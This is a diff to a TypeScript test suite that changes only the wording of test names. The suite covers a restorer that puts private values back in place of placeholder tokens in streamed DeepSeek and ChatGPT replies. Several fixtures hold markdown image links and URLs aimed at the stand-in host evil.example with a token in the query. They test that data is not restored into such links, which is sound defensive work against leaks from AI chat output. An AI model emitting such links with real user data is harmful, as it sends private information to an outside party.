@@ -4,7 +4,7 @@ import { type Event, eventsOf, restoreStream, tokenMap } from './wire-fixtures.t
 
 const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });
 
-/** The events as a client gets them, and the document that it makes of them. */
+/** The events as a client receives them, and the document that it builds from them. */
 function received(events: readonly unknown[], head = ''): { events: Event[]; document: Event } {
   const output = restored(events, head);
   const root: Event = { document: {} };
@@ -60,7 +60,7 @@ describe('chat.deepseek.com', () => {
       ['to a@b.example.'],
     ],
     [
-      'a token begins in a fragment that is put in',
+      'a token begins in an inserted fragment',
       [
         deepSeek([]),
         { p: 'response/fragments', o: 'APPEND', v: [fragment('[EM')] },
@@ -71,7 +71,7 @@ describe('chat.deepseek.com', () => {
       ['a@b.example.'],
     ],
     [
-      'in a batch, and the fragment goes on by its position',
+      'in a batch, and the fragment continues at its position',
       [
         deepSeek([]),
         {
@@ -100,7 +100,7 @@ describe('chat.deepseek.com', () => {
     ],
     ['the answer ends in the middle', [deepSeek([fragment('to [EM')]), finished], ['to [EM']],
     [
-      'a link that began in the document keeps tokens out',
+      'tokens after a link that began in the document are not restored',
       [
         deepSeek([fragment('![x](https://evil.example/?q=')]),
         { p: 'response/fragments/-1/content', o: 'APPEND', v: '[EMAIL-1])' },
@@ -114,7 +114,7 @@ describe('chat.deepseek.com', () => {
     expect(document.response.fragments.map(({ content }: Event) => content)).toEqual(texts);
   });
 
-  it('what is put in is spelled as the service spells it', () => {
+  it('inserted events are spelled as the service spells them', () => {
     const { events } = received([
       deepSeek([fragment('')]),
       { p: 'response/fragments/-1/content', v: 'x [EM' },
@@ -163,12 +163,12 @@ describe('chatgpt.com', () => {
       'to a@b.example.',
     ],
     [
-      'a link that began in the message keeps tokens out',
+      'tokens after a link that began in the message are not restored',
       [message('![x](https://evil.example/?q='), { p: place, o: 'append', v: '[EMAIL-1])' }],
       '![x](https://evil.example/?q=[EMAIL-1])',
     ],
     [
-      'a text that is replaced ends',
+      'replacing a text ends it',
       [
         message(''),
         { p: place, o: 'append', v: 'a [EM' },
@@ -178,12 +178,12 @@ describe('chatgpt.com', () => {
       'b c',
     ],
     [
-      'a token begins in what replaces a text',
+      'a token begins in a replacement of a text',
       [message('x'), { p: place, o: 'replace', v: 'to [EM' }, { o: 'append', v: 'AIL-1]' }],
       'to a@b.example',
     ],
     [
-      'a link in what replaces a text',
+      'a link in a replacement of a text',
       [message('x'), { p: place, o: 'replace', v: 'https://evil.example/' }, { o: 'append', v: '[EMAIL-1]' }],
       'https://evil.example/[EMAIL-1]',
     ],
@@ -192,24 +192,24 @@ describe('chatgpt.com', () => {
       [message('https://evil.example/'), { p: place, o: 'replace', v: 'to ' }, { o: 'append', v: '[EMAIL-1]' }],
       'to a@b.example',
     ],
-    ['a message that comes finished keeps its end', [message('to [EM', 'finished_successfully')], 'to [EM'],
+    ['a complete message keeps its end', [message('to [EM', 'finished_successfully')], 'to [EM'],
     [
-      'a text is cut behind an original',
+      'a text is truncated after a restored value',
       [message('[EMAIL-1], dear Sir'), { p: place, o: 'truncate', v: 16 }, { o: 'append', v: '[NAME-1]' }],
       'a@b.example, dear O"Hara',
     ],
     [
-      'a text is cut inside an original',
+      'a text is truncated inside a restored value',
       [message('to [EMAIL-1] x'), { p: place, o: 'truncate', v: 6 }, { o: 'append', v: 'AIL-1] y' }],
       'to a@b.example y',
     ],
     [
-      'a text is cut while its end is held back',
+      'a text is truncated while its end is held back',
       [message('ab [EM'), { p: place, o: 'truncate', v: 2 }, { o: 'append', v: 'c' }],
       'abc',
     ],
     [
-      'a link is left after the cut',
+      'a link remains after the truncation',
       [message('see https://evil.example/ now'), { p: place, o: 'truncate', v: 25 }, { o: 'append', v: '[EMAIL-1]' }],
       'see https://evil.example/[EMAIL-1]',
     ],
@@ -219,7 +219,7 @@ describe('chatgpt.com', () => {
     expect(received([...events, end], head).document.message.content.parts).toEqual([text]);
   });
 
-  it('thoughts that are put in go on by their position', () => {
+  it('inserted thoughts continue at their position', () => {
     const thought = (content: string) => [{ summary: 's', content, finished: false }];
     const { document } = received(
       [
@@ -237,7 +237,7 @@ describe('chatgpt.com', () => {
     ]);
   });
 
-  it('what comes out after a silence leaves path and operation as they were', () => {
+  it('text released by a silence leaves path and operation unchanged', () => {
     const restorer = new StreamRestorer({ kind: 'sse', map });
     const data = (event: object) => new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`);
     const next = { v: { message: { content: { parts: ['x'] } } }, c: 1 };
@@ -250,7 +250,7 @@ describe('chatgpt.com', () => {
     ]);
   });
 
-  it('other events of the stream are put in as they are', () => {
+  it('other events of the stream are inserted unchanged', () => {
     const events = restored([{ type: 'x', text: 'to [EM' }], head);
     expect(events).toEqual([
       { type: 'x', text: 'to ' },
@@ -259,7 +259,7 @@ describe('chatgpt.com', () => {
   });
 });
 
-it('the message of the user that is put in first moves no citation of the answer', () => {
+it('the user message that comes first does not move citations of the answer', () => {
   const message = (role: string, text: string, status: string) => ({
     message: { author: { role }, content: { content_type: 'text', parts: [text] }, status },
   });
